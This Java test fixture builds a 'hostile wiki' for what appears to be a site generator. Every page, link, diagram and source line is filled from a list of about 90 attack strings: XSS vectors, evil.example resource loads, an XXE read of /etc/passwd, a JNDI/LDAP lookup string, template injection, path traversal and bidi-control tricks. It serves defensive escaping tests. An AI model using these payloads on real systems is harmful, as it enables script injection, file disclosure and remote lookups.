package ai.wikibuilder.site;

import ai.wikibuilder.pages.Block;
import ai.wikibuilder.pages.Diagram;
import ai.wikibuilder.pages.Evidence;
import ai.wikibuilder.pages.Inline;
import ai.wikibuilder.pages.Page;
import ai.wikibuilder.pages.Sentence;
import ai.wikibuilder.pages.Wiki;
import ai.wikibuilder.source.HostLinks;
import ai.wikibuilder.source.SnapshotId;
import ai.wikibuilder.source.SourceText;
import ai.wikibuilder.source.TextReader;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/** A wiki in which every text is an attack: one page for each, with the attack in every field. */
final class HostileWiki {
  static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<script\u0000>alert(1)</script>",
          "<script/x>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<img src=\"https://evil.example/pixel.png\">",
          "<img/src=`x`onerror=alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
          "</title><script>alert(1)</script>",
          "</svg></figure></main><script>alert(1)</script>",
          "</code></pre><iframe src=javascript:alert(1)>",
          "<iframe srcdoc=\"<script>alert(1)</script>\">",
          "<object data=\"data:text/html,<script>alert(1)</script>\">",
          "<embed src=javascript:alert(1)>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>@import 'https://evil.example/x.css';</style>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<video><source onerror=alert(1)></video>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<!--><img src=x onerror=alert(1)>-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "]]><script>alert(1)</script>",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
          "\" onmouseover=\"alert(1)",
          "' onmouseover='alert(1)",
          "` onmouseover=`alert(1)",
          "x\" autofocus onfocus=alert(1) y=\"",
          "\"><script>alert(1)</script>",
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "\u0001javascript:alert(1)",
          "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
          "vbscript:msgbox(1)",
          "file:///etc/passwd",
          "//evil.example/x",
          "https://user:secret@evil.example/",
          "https://evil.example/\" onclick=\"alert(1)",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "&#x6A&#x61&#x76&#x61script:alert(1)",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "\u2028alert(1)\u2029",
          "access\u202E \u2066// check admin\u2069 \u2066",
          "\u200Bzero\u200Dwidth\uFEFF",
          "tag\uDB40\uDC41\uDB40\uDC42 characters",
          "lone \uD800 surrogate \uDFFF",
          "\u0000\u0007\u001B[31mred\u001B[0m\u009B31m",
          "\uFF1Cscript\uFF1Ealert(1)",
          "[click](javascript:alert(1))",
          "![pixel](https://evil.example/pixel.png)",
          "[x]: javascript:alert(1) \"title\"",
          "[x](<javascript:alert(1)>)",
          "<https://evil.example>",
          "https://evil.example/auto and www.evil.example and me@evil.example",
          "# heading\n## second\n- list\n1. number",
          "1) first\n\n    code\n***\n---\n===",
          "| a | b |\n| - | - |\n| c | d |",
          "``` \n```mermaid\ngraph TD; A-->B\n```",
          "`` ` `` **bold** __bold__ ~~gone~~ *it* _it_",
          "> quote\n> <script>alert(1)</script>",
          "- [x] task $x^2$ :smile: @everyone #1",
          "\\",
          "trailing backslash \\\\",
          "\"]; click A javascript:alert(1); B[\"",
          "%%{init: {'securityLevel': 'loose'}}%%",
          "A[\"<img src=x onerror=alert(1)>\"] --> B; click A call alert(1)",
          "end\nsubgraph x\nstyle A fill:url(https://evil.example)",
          "${jndi:ldap://evil.example/x} {{7*7}} <%= 7*7 %> @{x}",
          "*/alert(1)/*",
          "';alert(1);//",
          "\\\"];self.aiwikiSearch=null;//",
          "__proto__",
          "constructor.prototype",
          "../../../../etc/passwd",
          "C:\\Windows\\con",
          " ",
          "a".repeat(3_000),
          "\u0130stanbul \u0131\u015F\u0131k",
          "\u0645\u0631\u062D\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
          "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301zalgo");

  private HostileWiki() {}

  static Wiki wiki() {
    List<Page> pages = new ArrayList<>();
    for (int i = 0; i < PAYLOADS.size(); i++) {
      pages.add(page("p" + i, PAYLOADS.get(i)));
    }
    String all = String.join(" ", PAYLOADS.subList(0, 60));
    SnapshotId snapshot =
        new SnapshotId(
            all, Optional.of(all), Optional.of("<b>\"'&" + all), "<i>\"'&" + all, all, true);
    return new Wiki(snapshot, all, pages, DemoWiki.numbers());
  }

  /** Files whose every line is an attack, whatever they are called. */
  static final TextReader TEXT =
      path -> Optional.of(SourceText.of(String.join("\n", PAYLOADS) + "\n"));

  /** A host whose addresses are made of what is in the repository, unchecked. */
  static final HostLinks LINKS =
      new HostLinks() {
        @Override
        public String lines(String path, int first, int last) {
          return first % 2 == 0 ? path : "https://git.example.org/x?" + path;
        }

        @Override
        public String repository() {
          return "javascript:alert(1)";
        }
      };

  static Page page(String slug, String text) {
    Evidence evidence = new Evidence(text, 1, 3);
    Sentence sentence =
        new Sentence(
            List.of(
                new Inline.Plain(text),
                new Inline.Plain(" "),
                new Inline.Code(text),
                new Inline.Strong(text),
                new Inline.Quote(text),
                new Inline.PageLink(text, text),
                new Inline.PageLink("p0", text),
                new Inline.ExternalLink(text, text),
                new Inline.ExternalLink("https://ok.example/" + text, text),
                new Inline.ExternalLink("https://ok.example/?a=b&c='%22", text)),
            List.of(evidence, new Evidence(text, 2, 2), new Evidence(text, 9_999, 9_999)));
    return new Page(
        slug,
        text,
        Optional.of(text),
        text,
        List.of(
            new Page.Section(
                text,
                List.of(
                    new Block.Paragraph(List.of(sentence, Sentence.of(text))),
                    new Block.Items(false, List.of(List.of(sentence), List.of(Sentence.of(text)))),
                    new Block.Items(true, List.of(List.of(Sentence.of(text, evidence)))),
                    new Block.Table(
                        List.of(text, text), List.of(List.of(sentence, Sentence.of(text)))),
                    new Block.Symbols(
                        List.of(
                            new Block.SymbolCard(
                                text,
                                text,
                                text,
                                evidence,
                                Optional.of(sentence),
                                List.of(sentence)))),
                    new Block.Excerpt(evidence, text, text),
                    new Block.CodeBlock(text, text, Optional.of(evidence)),
                    new Block.CodeBlock("java", text + "\n" + text, Optional.empty()),
                    new Block.Figure(diagram(text, sentence, evidence))))));
  }

  private static Diagram diagram(String text, Sentence sentence, Evidence evidence) {
    return new Diagram(
        Diagram.Kind.MODULE_MAP,
        text,
        List.of(
            new Diagram.Node(text, text, text, Optional.of(text), Optional.of(evidence)),
            new Diagram.Node("b", text, "", Optional.of("p0"), Optional.empty()),
            new Diagram.Node("b", text, text, Optional.empty(), Optional.empty())),
        List.of(
            new Diagram.Edge(text, "b", text, List.of(evidence)),
            new Diagram.Edge("b", text, "", List.of()),
            new Diagram.Edge("b", "b", text, List.of()),
            new Diagram.Edge("nowhere", text, text, List.of())),
        List.of(sentence));
  }
}
